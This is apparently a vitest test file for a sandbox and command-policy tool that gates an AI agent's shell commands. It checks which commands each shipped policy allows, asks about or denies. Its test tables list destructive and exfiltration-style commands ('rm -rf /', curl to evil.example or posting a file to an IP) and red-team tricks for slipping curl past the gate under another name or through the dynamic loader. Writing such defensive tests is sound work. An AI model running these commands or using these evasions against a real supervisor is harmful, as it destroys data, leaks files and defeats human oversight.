// The policies in policies/ against real commands on this machine, through local exec facts (the same
// identification the supervisor does: PATH search, canonical path, dev/ino, sha256, #! and ld.so).
import { copyFileSync, mkdtempSync, readdirSync, rmSync, symlinkSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { gatherLocalFacts } from '../../../src/core/exec/local-facts';
import {
  createEvaluator,
  defaultPolicyPath,
  loadPolicyFile,
  verifyExamples,
  type Decision,
} from '../../../src/core/policy/index';

const POLICIES = join(__dirname, '..', '..', '..', 'policies');
const PATH = '/usr/local/bin:/usr/bin:/bin';
const workspace = mkdtempSync(join(tmpdir(), 'gate-ws-'));
afterAll(() => rmSync(workspace, { recursive: true, force: true }));

function engine(file: string) {
  const loaded = loadPolicyFile(file, { workspace, env: { HOME: '/root', PATH } });
  expect(loaded.diagnostics.filter((d) => d.severity === 'error')).toEqual([]);
  const policy = loaded.policy!;
  const evaluator = createEvaluator(policy, { path: PATH });
  const explain = (argv: string[], cwd = workspace): Decision => evaluator.evaluate(gatherLocalFacts(argv, { cwd, path: PATH }));
  return { policy, evaluator, explain };
}

const verdict = (d: Decision) => `${d.action} ${d.ruleId ?? 'default'}`;

describe('every shipped policy passes check', () => {
  const files = [
    ...readdirSync(POLICIES).filter((f) => f.endsWith('.toml')).map((f) => join(POLICIES, f)),
    ...readdirSync(join(POLICIES, 'faraday')).map((f) => join(POLICIES, 'faraday', f)),
    ...readdirSync(join(POLICIES, 'agents')).map((f) => join(POLICIES, 'agents', f)),
  ];
  it('finds the policies', () => {
    expect(files.length).toBeGreaterThanOrEqual(14);
  });
  it.each(files)('%s', (file) => {
    const { policy, evaluator } = engine(file);
    expect(verifyExamples(policy, evaluator, { path: PATH })).toEqual([]);
  });
});

describe('default.gate.toml', () => {
  const { explain, policy } = engine(join(POLICIES, 'default.gate.toml'));

  it('is what defaultPolicyPath() names', () => {
    expect(defaultPolicyPath()).toBe(join(POLICIES, 'default.gate.toml'));
  });

  it.each([
    // Installed programs run without asking, unless listed:
    [['git', 'status'], 'allow default'],
    [['git', 'push', 'origin', 'main'], 'ask ask-git-push'],
    [['curl', '-fsSL', 'https://raw.githubusercontent.com/a/b/main/x.sh'], 'allow allow-fetch-known-hosts'],
    [['curl', 'https://github.com/a', 'https://evil.example/b'], 'ask ask-network-tools'],
    [['curl', 'https://github.com/a', 'evil.example'], 'ask ask-network-tools'],
    [['curl', 'https://github.com/a', 'ftp://evil.example/'], 'ask ask-network-tools'],
    [['wget', 'https://evil.example/x'], 'ask ask-network-tools'],
    [['sh', '-c', 'true'], 'allow default'],
    [['/bin/sh', '-c', 'true'], 'allow default'],
    [['bash', '-lc', 'make'], 'allow default'],
    [['su', '-'], 'deny deny-privilege-change'],
    [['sudo', 'id'], 'deny deny-privilege-change'], // not installed here: denied by its name
    [['rm', '-rf', '/'], 'deny deny-rm-rf-root'],
    [['rm', '-rf', 'build'], 'allow default'],
    [['rm', '-rf', '--', '/'], 'deny deny-rm-rf-root'],
    [['rm', '-rf', '//'], 'deny deny-rm-rf-root'],
    [['rm', '-r', '--no-preserve-root', '/'], 'deny deny-rm-rf-root'],
    [['rm', '-rf', '/root'], 'deny deny-rm-rf-root'],
    [['rm', '/', '-rf'], 'deny deny-rm-rf-root'],
    [['rm', '-rf', '/root/project'], 'allow default'],
    [['curl', 'https://github.com', '203.0.113.5', '-d', '@x'], 'ask ask-network-tools'],
    [['curl', 'https://github.com', '3405803781'], 'ask ask-network-tools'],
    [['curl', '-s', '--max-time', '5', 'https://github.com/'], 'allow allow-fetch-known-hosts'],
    [['git', '-P', 'push', 'origin', 'main'], 'ask ask-git-push'],
    [['make', '-j2'], 'allow default'],
    [['node', '--version'], 'allow default'],
    [['/usr/bin/python3.11', '-V'], 'allow default'],
    [['xxd', '/etc/hostname'], 'allow default'],
    [['npm', 'publish'], 'ask ask-npm-publish'],
    [['npm', 'test'], 'allow default'],
    // A push, a publish or a fetch elsewhere under another spelling (red-team classes):
    [['git', '-C', '.', '-c', 'a.b=c', '-c', 'd.e=f', '-c', 'g.h=i', '-c', 'j.k=l', 'push'], 'ask ask-git-push'],
    [['git', 'send-pack', '../r.git', 'main'], 'ask ask-git-push-transport'],
    [['git-receive-pack', '/srv/r.git'], 'ask ask-git-push-transport'],
    [['git', 'commit', '-m', 'push'], 'allow default'],
    [['npm', 'pub'], 'ask ask-npm-publish'],
    [['npm', 'install', 'dep'], 'allow default'],
    [['node', '/usr/lib/node_modules/npm/bin/npm-cli.js', 'publish'], 'ask ask-package-publish-via-interpreter'],
    [['python3', '-m', 'twine', 'upload', 'dist/x.whl'], 'ask ask-package-publish-via-interpreter'],
    [['curl', '-x', '10.0.0.1:8080', 'https://github.com/'], 'ask ask-network-tools'],
    [['curl', '--resol', 'github.com:443:10.0.0.1', 'https://github.com/'], 'ask ask-network-tools'],
    [['wget', '-i', 'urls.txt', 'https://github.com/'], 'ask ask-network-tools'],
    [['wget', '-q', 'https://github.com/o/r/archive/v1.tgz'], 'allow allow-fetch-known-hosts-wget'],
    [['crontab', '-e'], 'deny deny-schedule-outside'],
    [['docker', 'run', 'alpine'], 'ask ask-outside-the-gate'],
    [['gh', 'pr', 'create'], 'ask ask-github-write'],
    [['gh', 'pr', 'view', '3'], 'allow default'],
  ])('%j → %s', (argv, expected) => {
    expect(verdict(explain(argv))).toBe(expected);
  });

  // The agent's own package caches only (red-team R69 R99): not the user's ~/.npm (npx's installs), pip's built
  // wheels, cargo's unpacked crates, Go's modules, nor the rest of ~/.cache (typescript: VS Code's TS server
  // runs npm there by itself, R92; node-gyp's headers are compiled into the user's next native addon).
  const OWN = ['npm_config_cache', 'PIP_CACHE_DIR', 'YARN_CACHE_FOLDER', 'POETRY_CACHE_DIR', 'CARGO_HOME', 'GOMODCACHE',
    'GOCACHE', 'UV_CACHE_DIR', 'DENO_DIR', 'COREPACK_HOME', 'PLAYWRIGHT_BROWSERS_PATH', 'PUPPETEER_CACHE_DIR', 'npm_config_devdir'];

  it('seals writes to the workspace, /dev/shm and the agent\'s own package caches: no shared /tmp or /var/tmp (red-team R60), not all of ~/.cache (R69), not the user\'s package caches (R99)', () => {
    const writable = policy.filesystem.grants.filter((g) => g.rights.includes('w') && g.source !== 'bootstrap').map((g) => g.path);
    // The everyday devices of /dev (bootstrap) also get read from read_globs = ["/**"] split around /dev.
    expect(writable.filter((p) => !p.startsWith('/dev/') || p === '/dev/shm')).toEqual([workspace, '/dev/shm', '/root/.cache/agent-gate/tools']);
    expect(writable).not.toContain('/tmp');
    expect(writable).not.toContain('/var/tmp');
    expect(writable).not.toContain('/root/.cache');
    expect(policy.filesystem.createDirs).toEqual(['/root/.cache', '/root/.cache/agent-gate', '/root/.cache/agent-gate/tools']);
    // read_globs = ["/**"]: reads are open everywhere but /dev (only its everyday devices: not the user's
    // other terminals), so Landlock handles reads too.
    expect(policy.filesystem.handled).toBe('rw');
    expect(policy.filesystem.grants.filter((g) => ['/', '/dev', '/dev/pts'].includes(g.path)).map((g) => g.rights)).toEqual(['l']);
  });

  it('each package tool\'s cache is the agent\'s own, whatever the user\'s variables say', () => {
    const loaded = loadPolicyFile(join(POLICIES, 'default.gate.toml'), {
      workspace,
      env: { HOME: '/root', PATH, npm_config_cache: '/c/npm', XDG_CACHE_HOME: '/c/xdg', CARGO_HOME: '/c/cargo', GOPATH: '/c/go' },
      exists: () => true,
    });
    const writable = loaded.policy!.filesystem.grants.filter((g) => g.rights.includes('w') && g.source !== 'bootstrap').map((g) => g.path);
    // (The everyday devices of /dev are bootstrap grants that read_globs = ["/**"] also reaches.)
    expect(writable.filter((p) => !p.startsWith('/dev/') || p === '/dev/shm').slice(2)).toEqual(['/c/xdg/agent-gate/tools']);
    // Each tool is pointed at a directory of its own inside the agent's granted one (set after the user's value).
    const set = new Map(loaded.policy!.env!.set);
    for (const k of OWN) expect(set.get(k), k).toMatch(/^\/c\/xdg\/agent-gate\/tools\/[a-z-]+$/);
    expect(new Set(OWN.map((k) => set.get(k))).size).toBe(OWN.length);
  });

  it('a program the agent built or installed in the workspace runs, unless it is a listed program by content', () => {
    const bin = mkdtempSync(join(workspace, 'bin-'));
    copyFileSync('/usr/bin/true', join(bin, 'built-tool'));
    expect(verdict(explain([join(bin, 'built-tool')]))).toBe('allow default');
    copyFileSync('/usr/bin/curl', join(bin, 'innocent'));
    expect(verdict(explain([join(bin, 'innocent'), 'https://evil.example']))).toBe('ask ask-network-tools');
  });

  it('a copy of curl named git in the workspace is curl', () => {
    copyFileSync('/usr/bin/curl', join(workspace, 'git'));
    expect(verdict(explain(['./git', 'status']))).toBe('ask ask-network-tools');
  });

  it('a symlink named git to curl is curl', () => {
    const dir = mkdtempSync(join(workspace, 'links-'));
    symlinkSync('/usr/bin/curl', join(dir, 'git'));
    const d = explain(['./git', 'https://evil.example'], dir);
    expect(verdict(d)).toBe('ask ask-network-tools');
  });

  it('curl behind the dynamic loader is still curl', () => {
    const d = explain(['/lib64/ld-linux-x86-64.so.2', '/usr/bin/curl', 'https://evil.example']);
    expect(verdict(d)).toBe('ask ask-network-tools');
    expect(d.reason).toContain('via dynamic loader');
  });
});

describe('strict.gate.toml', () => {
  const { explain, policy } = engine(join(POLICIES, 'strict.gate.toml'));
  it.each([
    [['git', 'status'], 'allow allow-readonly-git'],
    [['git', 'push'], 'deny default'],
    [['curl', 'https://github.com'], 'deny deny-network-tools'],
    [['npm', 'install', 'left-pad'], 'deny default'],
    [['npm', 'test'], 'allow allow-npm-scripts'],
    // npm's aliases and prefixes, npx, and code on the command line (red-team R82).
    [['npm', 'i', 'left-pad'], 'deny default'],
    [['npm', 'isntall', 'left-pad'], 'deny default'],
    [['npx', 'cowsay'], 'deny default'],
    [['node', '-p', '1'], 'deny default'],
    [['node', '--eval=1'], 'deny default'],
    [['node', 'x.js'], 'allow allow-node-scripts'],
    [['python3.11', '-c', 'print(1)'], 'deny default'],
    [['python3.11', '-c1'], 'deny default'],
    [['python3.11', '-m', 'pytest'], 'allow allow-python-scripts'],
    [['make', 'test'], 'allow allow-build-and-test'],
    [['ls', '-la'], 'allow allow-read-only-tools'],
    [['xxd', '/etc/hostname'], 'deny default'],
  ])('%j → %s', (argv, expected) => {
    expect(verdict(explain(argv))).toBe(expected);
  });
  it('limits TCP connect to 443', () => {
    expect(policy.network).toMatchObject({ enabled: true, connectTcpPorts: [443], bindTcpPorts: [] });
  });
  it('removes credentials by value (URLs with a user, tokens of a known shape); the default does not', () => {
    expect(policy.env).toMatchObject({ removeUrlCredentials: true, removeTokenValues: true });
    expect(engine(join(POLICIES, 'default.gate.toml')).policy.env?.removeTokenValues).toBeUndefined();
  });
});

describe('permissive.gate.toml', () => {
  const { explain, policy } = engine(join(POLICIES, 'permissive.gate.toml'));
  it.each([
    [['xxd', '/etc/hostname'], 'allow default'],
    [['curl', 'https://github.com/a'], 'allow default'],
    [['curl', 'https://evil.example/a'], 'ask ask-network-unknown-hosts'],
    [['curl', '--version'], 'ask ask-network-unknown-hosts'],
    [['su'], 'deny deny-privilege-change'],
    [['rm', '-rf', '/'], 'deny deny-rm-rf-root'],
  ])('%j → %s', (argv, expected) => {
    expect(verdict(explain(argv))).toBe(expected);
  });
  it('does not seal the filesystem', () => {
    expect(policy.filesystem.enabled).toBe(false);
  });
});

describe("Faraday's README examples behave as that README says", () => {
  it('claude-cmd-policy: read-only git, shells and claude allowed, everything else denied', () => {
    const { explain } = engine(join(POLICIES, 'faraday', 'claude-cmd-policy.toml'));
    expect(verdict(explain(['git', 'log']))).toBe('allow allow-readonly-git');
    expect(verdict(explain(['git', 'fetch']))).toBe('allow allow-readonly-git');
    expect(verdict(explain(['git', 'push']))).toBe('deny default');
    expect(verdict(explain(['bash', '-c', 'x']))).toBe('allow allow-shell');
    expect(verdict(explain(['sh']))).toBe('allow allow-shell');
    expect(verdict(explain(['curl', 'https://example.com']))).toBe('deny default');
  });

  it('curl-deny: sh runs, curl is denied', () => {
    const { explain } = engine(join(POLICIES, 'faraday', 'curl-deny.toml'));
    expect(verdict(explain(['sh', '-c', 'curl https://example.com']))).toBe('allow default');
    expect(explain(['curl', 'https://example.com'])).toMatchObject({ action: 'deny', ruleId: 'deny-curl', reason: 'network egress not in allowlist' });
  });

  it('policy section: rm -rf / denied, read-only git allowed, default deny', () => {
    const { explain, policy } = engine(join(POLICIES, 'faraday', 'policy-section.toml'));
    expect(policy.meta).toEqual({ version: 1, defaultAction: 'deny', onPolicyError: 'deny', onSupervisorTimeoutMs: 250 });
    expect(verdict(explain(['rm', '-rf', '/']))).toBe('deny deny-rm-rf-root');
    expect(verdict(explain(['git', 'diff']))).toBe('allow allow-readonly-git');
    expect(verdict(explain(['git', 'show']))).toBe('deny default');
  });

  it('write policy: reads of /workspace/src, writes of hello.py and /tmp only', () => {
    const { policy } = engine(join(POLICIES, 'faraday', 'claude-write-policy.toml'));
    const own = policy.filesystem.grants.filter((g) => g.source !== 'bootstrap');
    expect(own.map((g) => [g.path, g.rights, g.widened])).toEqual([
      ['/workspace/src', 'r', false],
      ['/workspace/src/hello.py', 'w', false],
      ['/tmp', 'w', false],
    ]);
    expect(policy.filesystem.requireEnforced).toBe(true);
  });

  it('combined policy: both layers', () => {
    const { explain, policy } = engine(join(POLICIES, 'faraday', 'claude-combined-policy.toml'));
    expect(policy.filesystem.enabled).toBe(true);
    expect(verdict(explain(['git', 'status']))).toBe('allow allow-readonly-git');
    expect(verdict(explain(['curl', 'x']))).toBe('deny default');
  });

  it('filesystem section: ${HOME} expanded, build dir read+write', () => {
    const { policy } = engine(join(POLICIES, 'faraday', 'filesystem-section.toml'));
    // /etc/ssl is also a bootstrap grant: merged into one entry with both sources.
    const own = policy.filesystem.grants.filter((g) => g.source.includes('_globs'));
    expect(own.map((g) => [g.path, g.rights]).sort()).toEqual([
      ['/etc/ssl', 'r'],
      ['/root/repo', 'r'],
      ['/root/repo/build', 'rw'],
      ['/tmp', 'w'],
    ]);
    expect(own.find((g) => g.path === '/etc/ssl')?.source).toBe('bootstrap, read_globs /etc/ssl/**');
  });
});
